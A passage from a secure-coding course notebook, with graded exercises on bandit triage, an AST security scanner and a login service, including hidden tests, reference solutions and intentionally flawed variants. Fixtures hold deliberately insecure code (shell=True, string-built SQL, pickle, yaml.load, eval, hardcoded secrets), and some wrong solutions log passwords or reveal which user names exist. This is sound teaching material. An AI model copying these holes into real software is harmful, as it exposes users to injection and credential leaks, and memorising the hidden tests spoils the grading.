_one = {"errors": [], "results": [finding("./jobs.py", 3, "B602", "HIGH", "HIGH")]}
assert triage(_one) == ["jobs.py:3:B602"], "path without ./, line, test id"
assert triage({"errors": [], "results": []}) == [], "no findings, nothing to report"

# %% course={"kind": "test", "points": 2}
assert triage(TRIAGE_REPORT) == ["api/app.py:7:B201", "jobs.py:9:B307", "jobs.py:9:B608", "jobs.py:10:B602"], (
    "MEDIUM and up on both scales, sorted by path, line as a number, then test id")
### BEGIN HIDDEN TESTS
assert triage(TRIAGE_REPORT, "HIGH") == ["jobs.py:10:B602"]
assert triage(TRIAGE_REPORT, "LOW") == [
    "api/app.py:7:B201", "api/db.py:3:B404", "api/db.py:12:B301", "api/db.py:40:B105",
    "jobs.py:9:B307", "jobs.py:9:B608", "jobs.py:10:B602"]
assert triage({"results": [finding("x.py", 1, "B101", "MEDIUM", "MEDIUM")]}) == ["x.py:1:B101"], "no ./ to remove"
assert triage({"results": [finding("./.ci/check.py", 2, "B101", "HIGH", "HIGH")]}) == [".ci/check.py:2:B101"], (
    "remove the prefix ./ only, not every leading . and /")
### END HIDDEN TESTS

# %% course={"kind": "test", "points": 1}
for _bad in ("medium", "CRITICAL", ""):
    try:
        triage(TRIAGE_REPORT, _bad)
    except ValueError:
        pass
    else:
        raise AssertionError(f"minimum={_bad!r} must raise ValueError")
### BEGIN HIDDEN TESTS
_before = repr(TRIAGE_REPORT)
_result = triage(TRIAGE_REPORT)
assert repr(TRIAGE_REPORT) == _before, "the report must not change"
assert type(_result) is list and all(type(x) is str for x in _result)
### END HIDDEN TESTS

# %% course={"kind": "test", "points": 1}
_real = bandit_report(project({"jobs.py": (
    "import subprocess\n"
    "def archive(name):\n"
    "    subprocess.run('tar czf b.tgz ' + name, shell=True)\n"
    "def lookup(db, name):\n"
    "    return db.execute(\"SELECT * FROM users WHERE name = '%s'\" % name)\n"
    "password = 'hunter2'\n"
)}))
assert triage(_real) == ["jobs.py:3:B602", "jobs.py:5:B608"], "on a real bandit report"
### BEGIN HIDDEN TESTS
assert triage(_real, "HIGH") == ["jobs.py:3:B602"]
### END HIDDEN TESTS

# %% course={"kind": "wrong", "id": "text-ranks"}
RANKS = ("LOW", "MEDIUM", "HIGH")


def triage(report, minimum="MEDIUM"):
    if minimum not in RANKS:
        raise ValueError(minimum)
    kept = [(r["filename"].removeprefix("./"), r["line_number"], r["test_id"]) for r in report["results"]
            if r["issue_severity"] >= minimum and r["issue_confidence"] >= minimum]
    return [f"{p}:{n}:{t}" for p, n, t in sorted(kept)]

# %% course={"kind": "wrong", "id": "sort-strings"}
RANKS = ("LOW", "MEDIUM", "HIGH")


def triage(report, minimum="MEDIUM"):
    if minimum not in RANKS:
        raise ValueError(minimum)
    floor = RANKS.index(minimum)
    return sorted(f"{r['filename'].removeprefix('./')}:{r['line_number']}:{r['test_id']}" for r in report["results"]
                  if RANKS.index(r["issue_severity"]) >= floor and RANKS.index(r["issue_confidence"]) >= floor)

# %% course={"kind": "wrong", "id": "lstrip-prefix", "fails": ["t2"]}
RANKS = ("LOW", "MEDIUM", "HIGH")


def triage(report, minimum="MEDIUM"):
    if minimum not in RANKS:
        raise ValueError(minimum)
    floor = RANKS.index(minimum)
    kept = [(r["filename"].lstrip("./"), r["line_number"], r["test_id"]) for r in report["results"]
            if RANKS.index(r["issue_severity"]) >= floor and RANKS.index(r["issue_confidence"]) >= floor]
    return [f"{p}:{n}:{t}" for p, n, t in sorted(kept)]

# %% course={"kind": "wrong", "id": "severity-only"}
RANKS = ("LOW", "MEDIUM", "HIGH")


def triage(report, minimum="MEDIUM"):
    if minimum not in RANKS:
        raise ValueError(minimum)
    floor = RANKS.index(minimum)
    kept = [(r["filename"].removeprefix("./"), r["line_number"], r["test_id"]) for r in report["results"]
            if RANKS.index(r["issue_severity"]) >= floor]
    return [f"{p}:{n}:{t}" for p, n, t in sorted(kept)]

# %% [markdown] course={"kind": "exercise", "id": "ast-scanner", "item": "project-19-1-1"}
# ### Project: a small AST security scanner
#
# Write `scan(source, filename)` that parses Python source with `ast` (it does not run it) and reports risky
# patterns as `"filename:line:rule"` strings, sorted by line (as a number) and then rule name, each (line, rule)
# once. The line is where the call or assignment starts. Rules:
#
# | rule | reported for |
# |---|---|
# | `eval-exec` | a call to the built-in names `eval(...)` or `exec(...)` (not a method such as `model.eval()`) |
# | `shell-true` | any call with the keyword argument `shell=True` (the constant `True`) |
# | `sql-string` | a call to a method `.execute(...)` or `.executemany(...)` whose first argument is an f-string with at least one `{}` field, a `%` or `+` expression, or a `.format(...)` call |
# | `pickle-loads` | `pickle.loads(...)` or `pickle.load(...)` |
# | `yaml-load` | `yaml.load(...)` unless its `Loader` (second positional argument or keyword) is `SafeLoader` or `CSafeLoader` (bare or as `yaml.`...) |
# | `hardcoded-secret` | an assignment (`=` or annotated) of a non-empty string constant to a plain name containing `password`, `passwd`, `secret`, `token` or `api_key`/`apikey` (any case); and any string constant containing an AWS access key id (`AKIA` + 16 capitals or digits) |
#
# Example: `scan("import subprocess\nsubprocess.run(cmd, shell=True)\n", "a.py") == ["a.py:2:shell-true"]`. Source that does
# not parse raises `SyntaxError` (as `ast.parse` does).

# %% [markdown] course={"kind": "hint"}
# Walk every node with `ast.walk(ast.parse(source))`, collect `(node.lineno, rule)` pairs in a set, and sort the
# set at the end: tuples sort by line number first, then rule name.

# %% [markdown] course={"kind": "hint"}
# A call is `ast.Call`; `node.func` is an `ast.Name` for `eval(...)` and an `ast.Attribute` (with `.value` and
# `.attr`) for `pickle.loads(...)`. Keywords are in `node.keywords` (`k.arg`, `k.value`). An f-string is
# `ast.JoinedStr` and its fields are `ast.FormattedValue` items of `.values`; `a % b` is `ast.BinOp` with
# `op` an `ast.Mod`.

# %% [markdown] course={"kind": "hint"}
# For the secret names, one regular expression with `re.IGNORECASE`: `passw(or)?d|secret|token|api_?key`.

# %% course={"kind": "solution"}
SECRET_NAME = re.compile(r"passw(or)?d|secret|token|api_?key", re.IGNORECASE)
AWS_KEY_ID = re.compile(r"AKIA[0-9A-Z]{16}")
SAFE_LOADERS = ("SafeLoader", "CSafeLoader")


def scan(source: str, filename: str) -> list[str]:
    ### BEGIN SOLUTION
    found = set()
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Call):
            func = node.func
            if isinstance(func, ast.Name) and func.id in ("eval", "exec"):
                found.add((node.lineno, "eval-exec"))
            if any(k.arg == "shell" and isinstance(k.value, ast.Constant) and k.value.value is True for k in node.keywords):
                found.add((node.lineno, "shell-true"))
            if isinstance(func, ast.Attribute):
                owner = func.value.id if isinstance(func.value, ast.Name) else None
                if owner == "pickle" and func.attr in ("load", "loads"):
                    found.add((node.lineno, "pickle-loads"))
                if owner == "yaml" and func.attr == "load":
                    loaders = [k.value for k in node.keywords if k.arg == "Loader"]
                    if len(node.args) > 1:
                        loaders.append(node.args[1])
                    names = [getattr(x, "attr", getattr(x, "id", None)) for x in loaders]
                    if not any(name in SAFE_LOADERS for name in names):
                        found.add((node.lineno, "yaml-load"))
                if func.attr in ("execute", "executemany") and node.args and built_sql(node.args[0]):
                    found.add((node.lineno, "sql-string"))
        if isinstance(node, (ast.Assign, ast.AnnAssign)):
            targets = node.targets if isinstance(node, ast.Assign) else [node.target]
            value = node.value
            if isinstance(value, ast.Constant) and isinstance(value.value, str) and value.value:
                if any(isinstance(t, ast.Name) and SECRET_NAME.search(t.id) for t in targets):
                    found.add((node.lineno, "hardcoded-secret"))
        if isinstance(node, ast.Constant) and isinstance(node.value, str) and AWS_KEY_ID.search(node.value):
            found.add((node.lineno, "hardcoded-secret"))
    return [f"{filename}:{line}:{rule}" for line, rule in sorted(found)]


def built_sql(arg: ast.expr) -> bool:
    """Whether a query argument is built from pieces: an f-string with fields, `%` or `+`, or `.format()`."""
    if isinstance(arg, ast.JoinedStr):
        return any(isinstance(part, ast.FormattedValue) for part in arg.values)
    if isinstance(arg, ast.BinOp):
        return isinstance(arg.op, (ast.Mod, ast.Add))
    return isinstance(arg, ast.Call) and isinstance(arg.func, ast.Attribute) and arg.func.attr == "format"
    ### END SOLUTION

# %% course={"kind": "setup", "id": "scanner-fixtures"}
RISKY = "\n".join([
    "import os, pickle, subprocess, yaml",                                      # 1
    "password = 'hunter2'",                                                      # 2
    "def run(cmd, db, name, blob, text):",                                       # 3
    "    subprocess.run(cmd, shell=True)",                                       # 4
    "    db.execute(f\"SELECT * FROM users WHERE name = '{name}'\")",             # 5
    "    db.execute(\"SELECT * FROM users WHERE name = '%s'\" % name)",           # 6
    "    db.execute('SELECT * FROM t WHERE a = ' + name)",                        # 7
    "    db.executemany('INSERT INTO {} VALUES (?)'.format(name), [])",           # 8
    "    obj = pickle.loads(blob)",                                              # 9
    "    cfg = yaml.load(text)",                                                 # 10
    "    return eval(text), exec(text)",                                         # 11
    "AWS = 'AKIAABCDEFGHIJKLMNOP'",                                              # 12
    "API_KEY: str = 'sk-live-123'",                                              # 13
    "data = pickle.load(open('m.pkl', 'rb')); cfg = yaml.load(text, Loader=yaml.Loader)",  # 14
])
SAFE = "\n".join([
    "import os, subprocess, yaml",                                               # 1
    "password = os.environ['DB_PASSWORD']",                                      # 2
    "token = ''",                                                                # 3
    "def run(cmd, db, name, text, model):",                                      # 4
    "    subprocess.run(cmd, shell=False)",                                      # 5
    "    db.execute('SELECT * FROM users WHERE name = ?', (name,))",             # 6
    "    db.execute(f'SELECT 1')",                                               # 7
    "    cfg = yaml.safe_load(text)",                                            # 8
    "    cfg = yaml.load(text, Loader=yaml.SafeLoader)",                         # 9
    "    cfg = yaml.load(text, yaml.CSafeLoader)",                               # 10
    "    model.eval()",                                                          # 11
    "    self_password = len(name)",                                             # 12
    "    return db.execute(name)",                                               # 13
])

# %% course={"kind": "test", "points": 1}
assert scan("import subprocess\nsubprocess.run(cmd, shell=True)\n", "a.py") == ["a.py:2:shell-true"], "the prompt's example"
assert scan("x = 1\n", "ok.py") == [], "clean code: an empty list"

# %% course={"kind": "test", "points": 2}
assert scan(RISKY, "risky.py") == [
    "risky.py:2:hardcoded-secret", "risky.py:4:shell-true", "risky.py:5:sql-string", "risky.py:6:sql-string",
    "risky.py:7:sql-string", "risky.py:8:sql-string", "risky.py:9:pickle-loads", "risky.py:10:yaml-load",
    "risky.py:11:eval-exec", "risky.py:12:hardcoded-secret", "risky.py:13:hardcoded-secret",
    "risky.py:14:pickle-loads", "risky.py:14:yaml-load",
], "every rule on the fixture, once per line, sorted"
### BEGIN HIDDEN TESTS
assert scan("exec(a)\n" * 2, "e.py") == ["e.py:1:eval-exec", "e.py:2:eval-exec"]
assert scan("f(\n  x,\n  shell=True)\n", "m.py") == ["m.py:1:shell-true"], "a call's line is where it starts"
assert scan("yaml.load(t, Loader=SafeLoader)\nyaml.load(t, SafeLoader)\nyaml.load(t, Loader=FullLoader)\n", "y.py") == ["y.py:3:yaml-load"]
assert scan("cur.executemany(q % x, rows)\n", "q.py") == ["q.py:1:sql-string"]
assert scan("Secret_Token = 'x'\nPASSWD = 'y'\napikey = 'z'\n", "s.py") == ["s.py:1:hardcoded-secret", "s.py:2:hardcoded-secret", "s.py:3:hardcoded-secret"]
assert scan("note = 'key AKIA1234567890ABCDEF in a comment'\n", "k.py") == ["k.py:1:hardcoded-secret"]
assert scan("a = b = password = 'x'\n", "t.py") == ["t.py:1:hardcoded-secret"]
### END HIDDEN TESTS

# %% course={"kind": "test", "points": 2}
assert scan(SAFE, "safe.py") == [], "the safe fixture has no finding (each line is a tempting false positive)"
### BEGIN HIDDEN TESTS
assert scan("subprocess.run(c, shell=1)\nsubprocess.run(c, shell=flag)\n", "f.py") == [], "only the constant True"
assert scan("pickle.dumps(x)\nmy.pickle.loads(x)\nyaml.dump(x)\n", "p.py") == []
assert scan("db.execute(sql)\ndb.execute('a' 'b')\ndb.fetch(f'{x}')\ndb.execute(x * 2)\n", "d.py") == []
assert scan("obj.password = 'x'\npassword: str\nPASSWORD = 42\nkey = 'AKIA12345'\n", "n.py") == []
assert scan("x.eval(y)\nexecute(f'{x}')\n", "m.py") == [], "eval as a method and execute as a plain function are not flagged"
assert scan("run(shell=True, x=eval(y))\n", "o.py") == ["o.py:1:eval-exec", "o.py:1:shell-true"], "same line: rules in name order"
_out = scan("", "empty.py")
assert type(_out) is list and _out == []
try:
    scan("def (:\n", "bad.py")
except SyntaxError:
    pass
else:
    raise AssertionError("unparsable source raises SyntaxError")
### END HIDDEN TESTS

# %% course={"kind": "wrong", "id": "regex-grep"}
SECRET_NAME = re.compile(r"passw(or)?d|secret|token|api_?key", re.IGNORECASE)
AWS_KEY_ID = re.compile(r"AKIA[0-9A-Z]{16}")
SAFE_LOADERS = ("SafeLoader", "CSafeLoader")


def scan(source, filename):
    ast.parse(source)
    patterns = {"eval-exec": r"\b(eval|exec)\(", "shell-true": r"shell=True", "sql-string": r"\.execute(many)?\(f?['\"]",
                "pickle-loads": r"pickle\.loads?\(", "yaml-load": r"yaml\.load\(", "hardcoded-secret": r"(password|secret|token|api_?key)\w*\s*=\s*['\"]"}
    found = set()
    for number, line in enumerate(source.splitlines(), 1):
        for rule, pattern in patterns.items():
            if re.search(pattern, line, re.IGNORECASE):
                found.add((number, rule))
    return [f"{filename}:{n}:{r}" for n, r in sorted(found)]

# %% course={"kind": "wrong", "id": "sort-as-text"}
SECRET_NAME = re.compile(r"passw(or)?d|secret|token|api_?key", re.IGNORECASE)
AWS_KEY_ID = re.compile(r"AKIA[0-9A-Z]{16}")
SAFE_LOADERS = ("SafeLoader", "CSafeLoader")


def scan(source, filename):
    found = set()
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Call):
            func = node.func
            if isinstance(func, ast.Name) and func.id in ("eval", "exec"):
                found.add(f"{filename}:{node.lineno}:eval-exec")
            if any(k.arg == "shell" and isinstance(k.value, ast.Constant) and k.value.value is True for k in node.keywords):
                found.add(f"{filename}:{node.lineno}:shell-true")
            if isinstance(func, ast.Attribute):
                owner = func.value.id if isinstance(func.value, ast.Name) else None
                if owner == "pickle" and func.attr in ("load", "loads"):
                    found.add(f"{filename}:{node.lineno}:pickle-loads")
                if owner == "yaml" and func.attr == "load":
                    loaders = node.args[1:2] + [k.value for k in node.keywords if k.arg == "Loader"]
                    if not any(getattr(x, "attr", getattr(x, "id", None)) in SAFE_LOADERS for x in loaders):
                        found.add(f"{filename}:{node.lineno}:yaml-load")
                if func.attr in ("execute", "executemany") and node.args and isinstance(node.args[0], (ast.JoinedStr, ast.BinOp, ast.Call)):
                    found.add(f"{filename}:{node.lineno}:sql-string")
        if isinstance(node, ast.Assign) and isinstance(node.value, ast.Constant) and isinstance(node.value.value, str) and node.value.value:
            if any(isinstance(t, ast.Name) and SECRET_NAME.search(t.id) for t in node.targets):
                found.add(f"{filename}:{node.lineno}:hardcoded-secret")
        if isinstance(node, ast.Constant) and isinstance(node.value, str) and AWS_KEY_ID.search(node.value):
            found.add(f"{filename}:{node.lineno}:hardcoded-secret")
    return sorted(found)

# %% [markdown] course={"kind": "exercise", "id": "user-service", "item": "project-19-1-2", "timeout": 60}
# ### Project: the core of a secure user service
#
# Complete `UserService(clock)`, an in-memory user store that does the security work a login endpoint needs:
#
# - `register(name, password)`: store an argon2 hash made with `HASHER`, never the password. A password shorter
#   than 12 characters, or a name already taken, raises `ValueError`. Audit event `"register"`.
# - `login(name, password)`: on success return a **new** session token (`secrets.token_urlsafe(32)`); the user's
#   earlier sessions stop working (the session id **rotates** on login). On any failure raise
#   `LoginFailed(GENERIC)`, the **same** message whether the name exists or not. Even for an unknown name, run one
#   `HASHER.verify` (against `DUMMY_HASH`), so the answer costs the same time and does not reveal the name.
# - **Lockout:** the 5th failed login in a row for a name (known or not) locks that name for 900 seconds
#   (audit `"login-failed"` then `"lockout"`); while `clock()` is before the end of the lock, every login of that
#   name fails with audit `"login-locked"` and the password is not even checked (nor counted). A successful login,
#   and the lock itself, set the count back to 0: after a lock ends, the name again has 5 tries.
#   This is the service's **rate limit**: at most 5 guesses per name per 15 minutes. (A real service also limits
#   requests per client address, which needs the web layer; not done here.)
# - `user_for(token)`: the user of a live session, else `None`; `logout(token)` ends it (audit `"logout"`; an
#   unknown token does nothing).
# - **Audit:** every event is appended with `self.record(event, user)`, which stores `{"event", "user", "at"}`.
#   No audit record, and nothing the service keeps, ever contains a password.
#
# Example: after `register("ada", "a long passphrase")`, `login("ada", "wrong")` raises
# `LoginFailed("invalid user name or password")` and `user_for(login("ada", "a long passphrase")) == "ada"`.

# %% [markdown] course={"kind": "hint"}
# Four dicts are enough: name -> hash, name -> failures in a row, name -> locked until, token -> name.
# Check the lock first, then the password, and only then touch sessions.

# %% [markdown] course={"kind": "hint"}
# `stored = self.hashes.get(name, DUMMY_HASH)`, verify it in `try/except VerificationError`, and accept only if
# the verify succeeded **and** `name in self.hashes`. On a failure, count it, and at 5 set
# `locked_until[name] = now + 900` and reset the count.

# %% [markdown] course={"kind": "hint"}
# Rotation: `self.sessions = {t: u for t, u in self.sessions.items() if u != name}` before adding the new token.

# %% course={"kind": "solution"}
from argon2.exceptions import VerificationError

GENERIC = "invalid user name or password"
DUMMY_HASH = HASHER.hash(secrets.token_hex(16))  # verified for unknown names, so they cost the same time


class LoginFailed(Exception):
    pass


class UserService:
    max_failures = 5
    lockout_seconds = 900.0

    def __init__(self, clock: FakeClock) -> None:
        self.clock = clock
        self.audit: list[dict] = []
        ### BEGIN SOLUTION
        self.hashes: dict[str, str] = {}
        self.failures: dict[str, int] = {}
        self.locked_until: dict[str, float] = {}
        self.sessions: dict[str, str] = {}
        ### END SOLUTION

    def record(self, event: str, user: str) -> None:
        self.audit.append({"event": event, "user": user, "at": self.clock()})

    def register(self, name: str, password: str) -> None:
        ### BEGIN SOLUTION
        if len(password) < 12:
            raise ValueError("use at least 12 characters")
        if name in self.hashes:
            raise ValueError("name taken")
        self.hashes[name] = HASHER.hash(password)
        self.record("register", name)
        ### END SOLUTION

    def login(self, name: str, password: str) -> str:
        ### BEGIN SOLUTION
        now = self.clock()
        if now < self.locked_until.get(name, now):
            self.record("login-locked", name)
            raise LoginFailed(GENERIC)
        try:
            verified = HASHER.verify(self.hashes.get(name, DUMMY_HASH), password)
        except VerificationError:
            verified = False
        if not (verified and name in self.hashes):
            self.failures[name] = self.failures.get(name, 0) + 1
            self.record("login-failed", name)
            if self.failures[name] >= self.max_failures:
                self.failures[name] = 0
                self.locked_until[name] = now + self.lockout_seconds
                self.record("lockout", name)
            raise LoginFailed(GENERIC)
        self.failures[name] = 0
        self.sessions = {token: user for token, user in self.sessions.items() if user != name}
        token = secrets.token_urlsafe(32)
        self.sessions[token] = name
        self.record("login", name)
        return token
        ### END SOLUTION

    def user_for(self, token: str) -> str | None:
        ### BEGIN SOLUTION
        return self.sessions.get(token)
        ### END SOLUTION

    def logout(self, token: str) -> None:
        ### BEGIN SOLUTION
        user = self.sessions.pop(token, None)
        if user is not None:
            self.record("logout", user)
        ### END SOLUTION

# %% course={"kind": "setup", "id": "service-checks"}
def login_error(service: object, name: str, password: str) -> str:
    """The message of the `LoginFailed` a login raises ("" when it succeeds; any other exception propagates)."""
    try:
        service.login(name, password)  # type: ignore[attr-defined]
    except Exception as error:
        if type(error).__name__ != "LoginFailed":
            raise
        return str(error)
    return ""


def events(service: object) -> list[tuple[str, str]]:
    """The audit trail as (event, user) pairs."""
    return [(r["event"], r["user"]) for r in service.audit]  # type: ignore[attr-defined]

# %% course={"kind": "test", "points": 1}
_svc = UserService(FakeClock())
_svc.register("ada", "a long passphrase")
_token = _svc.login("ada", "a long passphrase")
assert type(_token) is str and len(_token) == 43, "a token_urlsafe(32) session token"
assert _svc.user_for(_token) == "ada", "the token identifies its user"
assert login_error(_svc, "ada", "wrong") == GENERIC, "a wrong password raises LoginFailed(GENERIC)"

# %% course={"kind": "test", "points": 2}
_svc = UserService(FakeClock())
_svc.register("ada", "a long passphrase")
assert login_error(_svc, "nobody", "a long passphrase") == GENERIC, "an unknown name fails with the very same message"
### BEGIN HIDDEN TESTS
_calls = []
_real_verify = PasswordHasher.verify
PasswordHasher.verify = lambda self, stored, pw: _calls.append(stored) or _real_verify(self, stored, pw)
try:
    login_error(_svc, "ghost", "whatever")
    login_error(_svc, "ada", "nope")
finally:
    PasswordHasher.verify = _real_verify
assert len(_calls) == 2, "unknown names cost one argon2 verify too"
### END HIDDEN TESTS

# %% course={"kind": "test", "points": 1}
_svc = UserService(FakeClock())
_svc.register("ada", "a long passphrase")
for _bad in [("ada", "another long one"), ("bob", "short")]:
    try:
        _svc.register(*_bad)
    except ValueError:
        pass
    else:
        raise AssertionError(f"register{_bad} must raise ValueError")
### BEGIN HIDDEN TESTS
_svc.register("eve", "x" * 12)
assert _svc.user_for(_svc.login("eve", "x" * 12)) == "eve", "12 characters are enough"
try:
    _svc.register("zed", "y" * 11)
except ValueError:
    pass
else:
    raise AssertionError("11 characters are too few")
assert login_error(_svc, "ada", "another long one") == GENERIC, "the refused registration changed nothing"
### END HIDDEN TESTS

# %% course={"kind": "test", "points": 2}
_clock = FakeClock()
_svc = UserService(_clock)
_svc.register("ada", "a long passphrase")
for _ in range(5):
    login_error(_svc, "ada", "guess")
assert login_error(_svc, "ada", "a long passphrase") == GENERIC, "after 5 failures even the right password is refused"
_clock.advance(900.0)
assert login_error(_svc, "ada", "a long passphrase") == "", "the lock ends after 900 seconds"
### BEGIN HIDDEN TESTS
_clock = FakeClock()
_svc = UserService(_clock)
_svc.register("ada", "a long passphrase")
for _ in range(4):
    login_error(_svc, "ada", "guess")
assert login_error(_svc, "ada", "a long passphrase") == "", "4 failures do not lock"
for _ in range(4):
    login_error(_svc, "ada", "guess")
assert login_error(_svc, "ada", "a long passphrase") == "", "a success resets the count"
for _ in range(5):
    login_error(_svc, "ada", "guess")
_clock.advance(899.5)
assert login_error(_svc, "ada", "a long passphrase") == GENERIC, "still locked just before 900 s"
_clock.advance(0.5)
for _ in range(4):
    login_error(_svc, "ada", "guess")
assert login_error(_svc, "ada", "a long passphrase") == "", "after the lock the count starts again from 0"
for _ in range(5):
    login_error(_svc, "ghost", "guess")
assert events(_svc)[-1] == ("lockout", "ghost"), "unknown names are locked out the same way"
_svc2 = UserService(_clock)
_svc2.register("bob", "a long passphrase")
for _ in range(5):
    login_error(_svc2, "ghost", "guess")
assert login_error(_svc2, "bob", "a long passphrase") == "", "a lock is per name"
### END HIDDEN TESTS

# %% course={"kind": "test", "points": 2}
_clock = FakeClock(50.0)
_svc = UserService(_clock)
_svc.register("ada", "a long passphrase")
_first = _svc.login("ada", "a long passphrase")
_second = _svc.login("ada", "a long passphrase")
assert _first != _second and _svc.user_for(_first) is None, "a new login rotates the session: the old token dies"
assert _svc.user_for(_second) == "ada"
### BEGIN HIDDEN TESTS
_svc.register("bob", "b long passphrase")
_bob = _svc.login("bob", "b long passphrase")
_third = _svc.login("ada", "a long passphrase")
assert _svc.user_for(_bob) == "bob", "rotating ada's session leaves bob's alone"
_svc.logout(_third)
assert _svc.user_for(_third) is None and _svc.user_for(_bob) == "bob"
_svc.logout("no-such-token")
_svc.logout(_third)
assert _svc.user_for("") is None
assert events(_svc).count(("logout", "ada")) == 1, "logging out twice is one logout"
### END HIDDEN TESTS

# %% course={"kind": "test", "points": 2}
_clock = FakeClock(7.0)
_svc = UserService(_clock)
_svc.register("ada", "a long passphrase")
_clock.advance(1.0)
login_error(_svc, "ada", "Tr0ub4dor&3 guess")
_t = _svc.login("ada", "a long passphrase")
_svc.logout(_t)
assert events(_svc) == [("register", "ada"), ("login-failed", "ada"), ("login", "ada"), ("logout", "ada")], "the audit trail"
assert [r["at"] for r in _svc.audit] == [7.0, 8.0, 8.0, 8.0], "each record has the clock's time"
_kept = repr(_svc.audit) + repr(vars(_svc))
assert "a long passphrase" not in _kept and "Tr0ub4dor" not in _kept, "no password in the audit log or the store"
### BEGIN HIDDEN TESTS
_clock = FakeClock()
_svc = UserService(_clock)
_svc.register("ada", "a long passphrase")
for _ in range(6):
    login_error(_svc, "ada", "guess")
assert events(_svc) == [("register", "ada")] + [("login-failed", "ada")] * 5 + [("lockout", "ada"), ("login-locked", "ada")]
assert all(set(r) == {"event", "user", "at"} for r in _svc.audit), "records hold event, user and at only"
### END HIDDEN TESTS

# %% course={"kind": "wrong", "id": "reveals-user"}
from argon2.exceptions import VerificationError

GENERIC = "invalid user name or password"
DUMMY_HASH = HASHER.hash(secrets.token_hex(16))


class LoginFailed(Exception):
    pass


class UserService:
    max_failures = 5
    lockout_seconds = 900.0

    def __init__(self, clock):
        self.clock = clock
        self.audit = []
        self.hashes, self.failures, self.locked_until, self.sessions = {}, {}, {}, {}

    def record(self, event, user):
        self.audit.append({"event": event, "user": user, "at": self.clock()})

    def register(self, name, password):
        if len(password) < 12 or name in self.hashes:
            raise ValueError(name)
        self.hashes[name] = HASHER.hash(password)
        self.record("register", name)

    def login(self, name, password):
        now = self.clock()
        if now < self.locked_until.get(name, now):
            self.record("login-locked", name)
            raise LoginFailed(GENERIC)
        if name not in self.hashes:
            self.record("login-failed", name)
            raise LoginFailed("no such user")
        try:
            HASHER.verify(self.hashes[name], password)
        except VerificationError:
            self.failures[name] = self.failures.get(name, 0) + 1
            self.record("login-failed", name)
            if self.failures[name] >= self.max_failures:
                self.failures[name] = 0
                self.locked_until[name] = now + self.lockout_seconds
                self.record("lockout", name)
            raise LoginFailed(GENERIC) from None
        self.failures[name] = 0
        self.sessions = {t: u for t, u in self.sessions.items() if u != name}
        token = secrets.token_urlsafe(32)
        self.sessions[token] = name
        self.record("login", name)
        return token

    def user_for(self, token):
        return self.sessions.get(token)

    def logout(self, token):
        user = self.sessions.pop(token, None)
        if user is not None:
            self.record("logout", user)

# %% course={"kind": "wrong", "id": "logs-password"}
from argon2.exceptions import VerificationError

GENERIC = "invalid user name or password"
DUMMY_HASH = HASHER.hash(secrets.token_hex(16))


class LoginFailed(Exception):
    pass


class UserService:
    max_failures = 5
    lockout_seconds = 900.0

    def __init__(self, clock):
        self.clock = clock
        self.audit = []
        self.hashes, self.failures, self.locked_until, self.sessions = {}, {}, {}, {}

    def record(self, event, user):
        self.audit.append({"event": event, "user": user, "at": self.clock()})

    def register(self, name, password):
        if len(password) < 12 or name in self.hashes:
            raise ValueError(name)
        self.hashes[name] = HASHER.hash(password)
        self.record("register", name)

    def login(self, name, password):
        now = self.clock()
        if now < self.locked_until.get(name, now):
            self.record("login-locked", name)
            raise LoginFailed(GENERIC)
        try:
            verified = HASHER.verify(self.hashes.get(name, DUMMY_HASH), password)
        except VerificationError:
            verified = False
        if not (verified and name in self.hashes):
            self.failures[name] = self.failures.get(name, 0) + 1
            self.audit.append({"event": "login-failed", "user": name, "at": now, "tried": password})  # for debugging
            if self.failures[name] >= self.max_failures:
                self.failures[name] = 0
                self.locked_until[name] = now + self.lockout_seconds
                self.record("lockout", name)
            raise LoginFailed(GENERIC)
        self.failures[name] = 0
        self.sessions = {t: u for t, u in self.sessions.items() if u != name}
        token = secrets.token_urlsafe(32)
        self.sessions[token] = name
        self.record("login", name)
        return token

    def user_for(self, token):
        return self.sessions.get(token)

    def logout(self, token):
        user = self.sessions.pop(token, None)
        if user is not None:
            self.record("logout", user)

# %% course={"kind": "wrong", "id": "no-rotation"}
from argon2.exceptions import VerificationError

GENERIC = "invalid user name or password"
DUMMY_HASH = HASHER.hash(secrets.token_hex(16))


class LoginFailed(Exception):
    pass


class UserService:
    max_failures = 5
    lockout_seconds = 900.0

    def __init__(self, clock):
        self.clock = clock
        self.audit = []
        self.hashes, self.failures, self.locked_until, self.sessions = {}, {}, {}, {}

    def record(self, event, user):
        self.audit.append({"event": event, "user": user, "at": self.clock()})

    def register(self, name, password):
        if len(password) < 12 or name in self.hashes:
            raise ValueError(name)
        self.hashes[name] = HASHER.hash(password)
        self.record("register", name)

    def login(self, name, password):
        now = self.clock()
        if now < self.locked_until.get(name, now):
            self.record("login-locked", name)
            raise LoginFailed(GENERIC)
        try:
            verified = HASHER.verify(self.hashes.get(name, DUMMY_HASH), password)
        except VerificationError:
            verified = False
        if not (verified and name in self.hashes):
            self.failures[name] = self.failures.get(name, 0) + 1
            self.record("login-failed", name)
            if self.failures[name] >= self.max_failures:
                self.failures[name] = 0
                self.locked_until[name] = now + self.lockout_seconds
                self.record("lockout", name)
            raise LoginFailed(GENERIC)
        self.failures[name] = 0
        token = secrets.token_urlsafe(32)  # old sessions stay valid
        self.sessions[token] = name
        self.record("login", name)
        return token

    def user_for(self, token):
        return self.sessions.get(token)

    def logout(self, token):
        user = self.sessions.pop(token, None)
        if user is not None:
            self.record("logout", user)

# %% course={"kind": "wrong", "id": "no-dummy-verify", "fails": ["t2"]}
from argon2.exceptions import VerificationError

GENERIC = "invalid user name or password"
DUMMY_HASH = HASHER.hash(secrets.token_hex(16))


class LoginFailed(Exception):
    pass


class UserService:
    max_failures = 5
    lockout_seconds = 900.0

    def __init__(self, clock):
        self.clock = clock
        self.audit = []
        self.hashes, self.failures, self.locked_until, self.sessions = {}, {}, {}, {}

    def record(self, event, user):
        self.audit.append({"event": event, "user": user, "at": self.clock()})

    def register(self, name, password):
        if len(password) < 12 or name in self.hashes:
            raise ValueError(name)
        self.hashes[name] = HASHER.hash(password)
        self.record("register", name)

    def login(self, name, password):
        now = self.clock()
        if now < self.locked_until.get(name, now):
            self.record("login-locked", name)
            raise LoginFailed(GENERIC)
        verified = False
        if name in self.hashes:  # skips argon2 for unknown names: they answer faster
            try:
                verified = HASHER.verify(self.hashes[name], password)
            except VerificationError:
                pass
        if not verified:
            self.failures[name] = self.failures.get(name, 0) + 1
            self.record("login-failed", name)
            if self.failures[name] >= self.max_failures:
                self.failures[name] = 0
                self.locked_until[name] = now + self.lockout_seconds
                self.record("lockout", name)
